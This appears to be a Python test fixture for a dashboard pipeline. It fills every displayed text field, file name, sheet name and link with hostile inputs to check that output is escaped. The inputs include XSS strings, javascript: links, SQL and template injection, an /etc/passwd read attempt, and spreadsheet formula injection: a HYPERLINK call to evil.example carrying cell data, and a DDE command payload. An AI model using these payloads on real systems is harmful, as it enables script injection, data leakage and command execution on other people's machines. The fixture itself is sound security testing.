"""The sample territories with attacks in every text that anybody could have uploaded.

Keys and ids stay, so that all pages have as much to show as those of the sample, and everything
that they show by name tries to be markup, a formula, a template or a query.
"""

from __future__ import annotations

import io
import json
import shutil
import zlib
from dataclasses import asdict
from pathlib import Path

import polars as pl
import xlsxwriter

from dashboard.exports import packs
from dashboard.exports.packs import PackPage
from pipelines.answers import Answers
from pipelines.batches import list_batches
from pipelines.build import build
from pipelines.datasets import DATASETS
from pipelines.datasets.base import Dataset
from pipelines.disk import write_json
from pipelines.examine import examine
from pipelines.load import land, undo
from pipelines.manifest import MANIFEST, Manifest, sealed
from pipelines.methodology.holding import shipped_rules
from pipelines.methodology.journal import adopt
from pipelines.scope import Scope
from pipelines.settings import Settings
from tests.files import events, text

IMAGE = '<img src=x onerror="window.pwned=1">'
MARKUP = (
    f' {IMAGE}<script>window.pwned=1</script>"><svg onload=window.pwned=1>'
    "[link7](javascript:window.pwned=1)![pic7](https://evil.example/i.png)**bold7** _it7_ `code7`"
    " $x7^2$ :material/skull: :smile: :red[red7] :blue-badge[badge7] &lt;amp7&gt;"
    ' \'; drop table x; -- {{7*1111}} {n} #read("/etc/passwd")'
)
# How a cell must begin for a spreadsheet to compute it.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3")
SCRIPT_LINK = "javascript:window.pwned=1//"
# A browser refuses it, and so does the splitter of addresses.
BROKEN_LINK = "http://[evil7.example"
FILE_NAME = f"{FORMULAS[0]}{IMAGE}[link7](javascript:window.pwned=1)**bold7**.xlsx"
SHEET = "=<img src=x>_it7_ $x7^2$"
# Words that stand alone in an element only where the marks around them were read as markup.
READ_AS_MARKUP = (
    "link7", "bold7", "it7", "code7", "x72", "red7", "badge7", "skull", "<amp7>", "😄", "7777",
)  # fmt: skip
# Texts that name a thing to the programme, not to people.
CODES = {
    "code", "region_code", "framework", "project_id", "milestone", "indicator", "part", "section",
    "parameter", "options", "plan_number",
}  # fmt: skip
NUMBERED = {"plan_items", "plan_marks"}
KINDS = {"text", "organisation", "person", "district", "site", "event"}
DISTRICT = "timashevsky"


def poisoned(value: str) -> str:
    """Return a text with attacks around it, the same for the same text."""
    return f"{FORMULAS[zlib.crc32(value.encode()) % len(FORMULAS)]} {value}{MARKUP}"


def poisoned_link(value: str) -> str:
    """Return an attack in the place of a link."""
    return (SCRIPT_LINK + value, BROKEN_LINK)[zlib.crc32(value.encode()) % 2]


def make_hostile(loaded_sample: Path, settings: Settings) -> None:
    """Land the sample's batches with attacks, and by hand a file, an undoing and a pack."""
    shutil.copytree(loaded_sample / "landing", settings.landing)
    for batch in list_batches(settings.landing, Scope.everything()):
        poison_rows(batch.folder / "rows.parquet", DATASETS[batch.manifest.dataset])
        told = json.loads((batch.folder / MANIFEST).read_text("utf-8"))
        told |= {"source_name": FILE_NAME, "sheet": SHEET}
        own = [batch.folder / name for name in told["files"]]
        write_json(batch.folder / MANIFEST, asdict(sealed(Manifest(**told), own)))
    everything = Scope.everything()
    said = Answers(district=DISTRICT, put_off=True)
    examined = examine(settings, everything, hostile_file(), FILE_NAME, said)
    land(settings, everything, examined, "demo")
    # The same rows as text; nobody misses them.
    data = text(events(["06.10.2022", "Лишнее", "форум", 1]))
    extra = examine(settings, everything, data, FILE_NAME, Answers(district=DISTRICT))
    (landed,) = land(settings, everything, extra, "demo")
    undo(settings, everything, landed.batch_id, poisoned("по ошибке"), "demo")
    packs.put_in(settings, everything, "demo", poisoned("Совет"), PackPage(page="district"))
    build(settings)
    version = shipped_rules(settings)
    adopt(settings, version, poisoned("Методика"), poisoned("приказ"), "2022/23", "demo")


def hostile_file() -> bytes:
    """Return a workbook of events whose sheet, headers and cells attack; one row is wrong."""
    rows = events(
        ["05.10.2022", poisoned("Семинар"), "форум", 5],
        ["05.10.2022", poisoned("Встреча"), "форум", poisoned("много")],
    )
    more = (poisoned("Столбец"), poisoned("а"), poisoned("б"))
    rows = [[*row, one] for row, one in zip(rows, more, strict=True)]
    data = io.BytesIO()
    with xlsxwriter.Workbook(data, {"in_memory": True, "strings_to_formulas": False}) as book:
        sheet = book.add_worksheet(SHEET)
        for number, row in enumerate(rows):
            sheet.write_row(number, 0, row)
    return data.getvalue()


def poison_rows(path: Path, dataset: Dataset) -> None:
    """Write attacks into every text of a batch that is shown; what it is looked up by stays."""
    rows = pl.read_parquet(path)
    if dataset.name == "aliases":
        return
    for column in dataset.fields:
        name = column.name
        is_code = name in CODES or (name == "number" and dataset.name in NUMBERED)
        if column.kind not in KINDS or is_code:
            continue
        change = poisoned_link if name == "url" else poisoned
        told = pl.element() if column.many else pl.col(name)
        new = told.map_elements(change, pl.String, skip_nulls=True)
        rows = rows.with_columns(pl.col(name).list.eval(new) if column.many else new)
    rows.write_parquet(path)
